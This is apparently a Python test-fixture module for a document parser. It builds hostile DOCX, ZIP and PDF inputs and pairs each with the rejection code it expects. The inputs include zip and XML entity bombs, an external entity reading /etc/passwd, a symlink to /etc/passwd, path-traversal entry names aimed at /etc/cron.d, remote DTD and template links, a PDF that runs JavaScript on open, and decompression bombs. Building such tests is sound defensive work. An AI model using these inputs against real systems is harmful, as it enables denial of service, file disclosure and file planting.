"""Hostile documents, made in code: what each is, and how it may end. `harmless` means that the text a reader sees is
read and nothing else; a code means that the document is refused with it."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from candor.limits import LONGEST_FILE
from documents_made import SEEN, assembled, docx, line, packed, paragraph, pdf, story, stream, written, zipped

HARMLESS = "harmless"
BROKEN, TOO_LARGE, UNSUPPORTED = "document_broken", "document_too_large", "document_unsupported"
EMPTY, LOCKED, COSTLY = "document_empty", "document_locked", "document_too_costly"
SEEN_WORD = paragraph(SEEN)


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    ends: tuple[str, ...]


def of(make: Callable[[], bytes], *ends: str) -> Hostile:
    return Hostile(make, ends)


def zip_bomb() -> bytes:
    return zipped({"word/document.xml": b"<w>" + b" " * 200_000_000 + b"</w>"})


def zip_in_zip() -> bytes:
    inner = zipped({"bomb": b"\0" * 1_000_000})
    for depth in range(20):
        inner = zipped({f"level{depth}.zip": inner})
    return inner


def lying_sizes() -> bytes:
    """The archive says that its document unpacks to ten bytes."""
    made = bytearray(docx(paragraph(SEEN * 200)))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = made.find(sign)
        made[at + place : at + place + 4] = struct.pack("<I", 10)
    return bytes(made)


def locked_archive() -> bytes:
    made = bytearray(docx(SEEN_WORD))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.find(sign) + place] |= 1
    return bytes(made)


def symlink() -> bytes:
    out = BytesIO()
    entry = zipfile.ZipInfo("word/document.xml")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def entities() -> str:
    levels = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    return f"<!DOCTYPE bomb [<!ENTITY l0 'ha'>{levels}]>"


def fonts_broken() -> bytes:
    descriptor = "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>"
    font = (
        "<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 1 /Widths [9 9] /FontDescriptor 7 0 R >>"
    )
    drawn = line(SEEN) + "BT /F2 12 Tf 50 600 Td (AB) Tj ET"
    made = pdf(drawn, extra=[font, descriptor, stream(bytes(range(256)) * 40)])
    return made.replace(b"/F1 5 0 R >>", b"/F1 5 0 R /F2 6 0 R >>", 1)


def calls_itself() -> bytes:
    form = stream(
        b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return pdf(line(SEEN) + "/X Do", resources="/XObject << /X 6 0 R >>", extra=[form])


def forms_unfold() -> bytes:
    """Twenty forms, each drawing the next one eight times."""
    forms = [
        stream(
            b"/N Do " * 8,
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /N {n + 1} 0 R >> >>",
        )
        for n in range(6, 26)
    ]
    last = stream(b"0 0 9 9 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return pdf(line(SEEN) + "/N Do", resources="/XObject << /N 6 0 R >>", extra=[*forms, last])


def picture(wide: int, high: int) -> bytes:
    told = f"/Type /XObject /Subtype /Image /Width {wide} /Height {high} /ColorSpace /DeviceRGB /BitsPerComponent 8"
    image = packed(b"\0" * 1_000_000, told)
    return pdf(line(SEEN) + "q 9 0 0 9 0 0 cm /I Do Q", resources="/XObject << /I 6 0 R >>", extra=[image])


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{n} 0 R" for n in range(3, count + 3))
    leaf = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return assembled(
        ["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {count} >>", *[leaf] * count]
    )


def xref_loop() -> bytes:
    made = written(SEEN)
    start = made.rindex(b"startxref")
    place = int(made[start:].split()[1])
    return made.replace(b"/Size 6  >>", b"/Size 6 /Prev %d >>" % place)


def flate_twice() -> bytes:
    twice = zlib.compress(zlib.compress(b" " * 400_000_000, 9), 9)
    return assembled([
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream(twice, "/Filter [/FlateDecode /FlateDecode]"),
    ])  # fmt: skip


def flate_once() -> bytes:
    return assembled([
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        packed(b"0 0 m 9 9 l S " * 20_000_000),
    ])  # fmt: skip


LOCKED_PDF = "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{0}> /U <{0}> >> /ID [<00> <00>]".format(
    "41" * 32
)
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' "
    "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' "
    "Target='http://192.0.2.1/template.dotm' TargetMode='External'/></Relationships>"
)

DOCUMENTS: dict[str, Hostile] = {
    "a zip bomb": of(zip_bomb, TOO_LARGE),
    "zips within zips": of(zip_in_zip, UNSUPPORTED),
    "five thousand parts": of(lambda: docx(SEEN_WORD, parts={f"p{n}": "" for n in range(5000)}), TOO_LARGE),
    "sizes that lie": of(lying_sizes, BROKEN, HARMLESS),
    "names that climb": of(
        lambda: docx(SEEN_WORD, parts={"../../../../tmp/climbed": "x", "/etc/cron.d/x": "x"}), HARMLESS
    ),
    "a symbolic link": of(symlink, BROKEN),
    "a locked archive": of(locked_archive, LOCKED),
    "half a Word file": of(lambda: docx(paragraph(SEEN * 50))[:300], BROKEN),
    "an Excel workbook": of(lambda: zipped({"xl/workbook.xml": "<x/>"}), UNSUPPORTED),
    "an entity bomb": of(lambda: docx(paragraph("&l9;"), prologue=entities()), BROKEN),
    "an external entity": of(
        lambda: docx(paragraph("&x;"), prologue="<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), BROKEN
    ),
    "a document type from afar": of(
        lambda: docx(SEEN_WORD, prologue="<!DOCTYPE d SYSTEM 'http://192.0.2.1/d.dtd'>"), BROKEN
    ),
    "XML a hundred thousand deep": of(lambda: docx("<w:x>" * 100_000 + "</w:x>" * 100_000), BROKEN),
    "XML that does not close": of(lambda: docx("<w:p><w:r>"), BROKEN),
    "a template from afar": of(lambda: docx(SEEN_WORD, parts={"word/_rels/settings.xml.rels": RELATIONS}), HARMLESS),
    "styles based on each other": of(
        lambda: docx(
            paragraph(SEEN, properties="<w:pStyle w:val='a'/>"),
            parts={
                "word/styles.xml": story(
                    "styles",
                    "<w:style w:styleId='a'><w:basedOn w:val='b'/></w:style>"
                    "<w:style w:styleId='b'><w:basedOn w:val='a'/></w:style>",
                )
            },
        ),
        HARMLESS,
    ),
    "two hundred thousand paragraphs": of(lambda: docx("<w:p/>" * 200_000, SEEN_WORD), HARMLESS),
    "fifty megabytes of spaces": of(lambda: b" " * 50_000_000, TOO_LARGE),
    "four megabytes of spaces": of(lambda: b" " * 4_000_000, EMPTY),
    "nothing at all": of(lambda: b"", EMPTY),
    "noughts": of(lambda: b"\0" * 10_000, UNSUPPORTED),
    "words between noughts": of(lambda: SEEN.encode() + b"\0" + SEEN.encode(), UNSUPPORTED),
    "a picture called a text": of(lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, UNSUPPORTED),
    "a program": of(lambda: b"\x7fELF" + bytes(range(256)) * 9, UNSUPPORTED),
    "an old Word file": of(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), UNSUPPORTED),
    "Rich Text": of(lambda: rb"{\rtf1 {\object\objdata 0105}}", UNSUPPORTED),
    "half a UTF-16 sign": of(lambda: b"\xff\xfeA\0B", BROKEN),
    "one line of four million letters": of(lambda: b"a" * 4_000_000, TOO_LARGE),
    "a million opening brackets": of(lambda: SEEN.encode() + b"\n" + b"![[(" * 40_000, HARMLESS, COSTLY),
    "a million angle brackets": of(lambda: SEEN.encode() + b"\n" + b"<a <" * 45_000, HARMLESS, COSTLY),
    "comments that never close": of(lambda: SEEN.encode() + b"\n" + b"<!-- " * 200_000, HARMLESS, COSTLY),
    "elements a hundred thousand deep": of(lambda: SEEN.encode() + b"\n" + b"<div hidden>" * 100_000, HARMLESS, COSTLY),
    "JSON a hundred thousand deep": of(lambda: SEEN.encode() + b"\n" + b"[" * 100_000, HARMLESS),
    "half a PDF": of(lambda: written(SEEN)[:220], BROKEN, EMPTY),
    "a PDF of its first line alone": of(lambda: b"%PDF-1.7\n" + b"x" * 5000, BROKEN),
    "pages that hold each other": of(
        lambda: pdf(line(SEEN), pages="/Kids [2 0 R 2 0 R 3 0 R] /Count 3"), BROKEN, HARMLESS
    ),
    "a cross-reference that leads to itself": of(xref_loop, BROKEN, HARMLESS),
    "a million pages promised": of(
        lambda: pdf(line(SEEN), pages="/Kids [3 0 R] /Count 1000000"), TOO_LARGE, BROKEN, HARMLESS
    ),
    "ten thousand pages": of(lambda: many_pages(10_000), TOO_LARGE),
    "a page of a kilometre": of(
        lambda: pdf(line(SEEN, size=20_000), boxes="/MediaBox [0 0 2834645 2834645]"), HARMLESS, BROKEN, EMPTY
    ),
    "a picture of ten thousand million dots": of(lambda: picture(100_000, 100_000), HARMLESS, COSTLY, BROKEN),
    "a locked PDF": of(lambda: pdf(line(SEEN), trailer=LOCKED_PDF), LOCKED),
    "a stream that unfolds": of(flate_once, EMPTY, COSTLY, BROKEN, TOO_LARGE),
    "a stream that unfolds twice": of(flate_twice, EMPTY, COSTLY, BROKEN, TOO_LARGE),
    "a form that draws itself": of(calls_itself, HARMLESS, COSTLY),
    "forms that unfold": of(forms_unfold, HARMLESS, COSTLY),
    "states a million deep": of(lambda: pdf(line(SEEN) + "q " * 1_000_000), HARMLESS, COSTLY, BROKEN),
    "a font of rubbish": of(fonts_broken, HARMLESS),
    "half a million letters": of(lambda: pdf("".join(line("word " * 1_000, 8 * n, 6) for n in range(100))), TOO_LARGE),
    "a PDF that wants to run": of(
        lambda: pdf(line(SEEN), catalog="/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) >>"),
        HARMLESS,
    ),
    "a PDF that is an archive too": of(lambda: written(SEEN) + zip_in_zip(), HARMLESS, BROKEN),
    "one byte too many": of(lambda: b"a" * (LONGEST_FILE + 1), TOO_LARGE),
}
